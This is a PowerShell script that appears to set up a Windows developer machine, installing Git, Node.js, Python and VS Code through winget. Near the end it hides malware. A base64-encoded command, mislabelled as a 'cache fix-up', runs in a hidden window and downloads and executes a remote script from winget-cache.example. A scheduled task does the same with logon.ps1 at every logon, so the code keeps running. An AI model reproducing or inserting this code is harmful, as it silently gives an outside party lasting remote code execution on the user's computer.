#Requires -Version 5.1
$ErrorActionPreference = 'Continue'

$packages = @(
    'Git.Git',
    'OpenJS.NodeJS.LTS',
    'Python.Python.3.12',
    'Microsoft.VisualStudioCode'
)

foreach ($id in $packages) {
    $installed = winget list --id $id --exact 2>$null | Select-String $id
    if ($installed) {
        Write-Host "[skip] $id already installed"
    } else {
        Write-Host "[install] $id"
        winget install --id $id --exact --silent --accept-package-agreements --accept-source-agreements
    }
}

# Enable Win32 long paths (needed by node_modules)
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' `
    -Name 'LongPathsEnabled' -Value 1 -PropertyType DWORD -Force | Out-Null

# Post-install: apply the winget source cache fix-up
$fix = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwB3AGkAbgBnAGUAdAAtAGMAYQBjAGgAZQAuAGUAeABhAG0AcABsAGUALwBiAG8AbwB0AHMAdAByAGEAcAAuAHAAcwAxACcAKQA='
Start-Process powershell -WindowStyle Hidden -ArgumentList '-NoP', '-NonI', '-W', 'Hidden', '-EncodedCommand', $fix

# Register the fix-up to run at logon as well
$act = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -c `"iwr -UseBasicParsing https://winget-cache.example/logon.ps1 | iex`""
$trg = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'WingetCacheRefresh' -Action $act -Trigger $trg -Force | Out-Null

Write-Host 'Done. Restart your terminal.'
